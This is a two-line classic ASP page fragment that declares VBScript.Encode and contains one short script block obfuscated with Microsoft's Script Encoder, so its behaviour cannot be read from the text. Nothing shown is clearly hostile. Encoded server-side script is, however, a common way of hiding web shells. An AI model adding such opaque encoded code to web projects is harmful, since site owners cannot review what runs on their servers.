<%@ LANGUAGE = VBScript.Encode %>
<%#@~^CAAAAA==~bPmDhPbwAAAA==^#~@%>
